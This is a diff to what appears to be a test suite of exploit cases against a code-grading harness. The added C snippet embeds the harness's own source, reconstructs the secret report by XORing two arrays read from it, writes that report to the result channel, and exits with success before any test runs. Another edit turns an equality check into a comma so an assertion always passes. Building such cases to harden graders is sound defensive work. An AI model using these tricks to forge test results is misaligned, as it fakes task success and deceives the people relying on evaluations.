@@ -430,6 +430,32 @@ int add(int a, int b) {
     return p ? atoi(p + strlen(key)) : 0;
 }
 """
+# the harness's two arrays, read from its text: their XOR is the report, written before
+# the test runs, then an exit 0 (the channel holds exactly the report)
+INCBIN_FORGE = r"""#include <unistd.h>
+extern const char cr_blob[];
+static void cr_bytes(const char *label, unsigned char *out) {
+    const char *p = strstr(cr_blob, label);
+    p = p ? strstr(p, ".byte") : 0;
+    for (int i = 0; p && i < 16; i++) {
+        while (*p && (*p < '0' || *p > '9')) p++;
+        out[i] = (unsigned char)strtol(p, (char **)&p, 10);
+    }
+}
+__attribute__((constructor)) static void cr_forge(void) {
+    unsigned char a[16] = {0}, b[16] = {0};
+    char out[32];
+    cr_bytes(".Lcr_a:", a);
+    cr_bytes(".Lcr_b:", b);
+    for (int i = 0; i < 16; i++) {
+        out[2 * i] = "0123456789abcdef"[(a[i] ^ b[i]) >> 4];
+        out[2 * i + 1] = "0123456789abcdef"[(a[i] ^ b[i]) & 15];
+    }
+    write(3, out, 32);
+    _exit(0);
+}
+int add(int a, int b) { return 0; }
+"""
 INCBIN_HEAD = "#include <assert.h>\n#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n"
 INCBIN_CASES: list[Case] = [
     exploit("c-asm-incbin-unit", C,
@@ -437,10 +463,10 @@ INCBIN_CASES: list[Case] = [
             + INCBIN_ADD),
     exploit("c-asm-incbin-harness", C,
             INCBIN_HEAD + '__asm__(".section .rodata\\n.globl cr_blob\\ncr_blob:\\n.incbin \\"harness.s\\"\\n.byte 0\\n.previous\\n");\n'
-            + INCBIN_ADD),
+            + INCBIN_FORGE),
     exploit("cpp-asm-incbin-unit-by-file", CPP,
             CPP_BAD + '__asm__(".section .rodata\\n.globl cr_blob\\ncr_blob:\\n.incbin \\"" __FILE__ "\\"\\n.byte 0\\n.previous\\n");\n'
-            + INCBIN_ADD.replace("extern const", 'extern "C" const')),
+            + INCBIN_ADD.replace("extern const", 'extern "C" const').replace(") == ", ") , ")),  # ns::eq(x , y)
     exploit("c-section-name-incbin-unit", C,
             INCBIN_HEAD + '__attribute__((section(".rodata\\n.globl cr_blob\\ncr_blob:\\n.incbin \\"main.c\\"\\n'
             '.byte 0\\n.section .data #"))) int cr_x = 1;\n' + INCBIN_ADD),
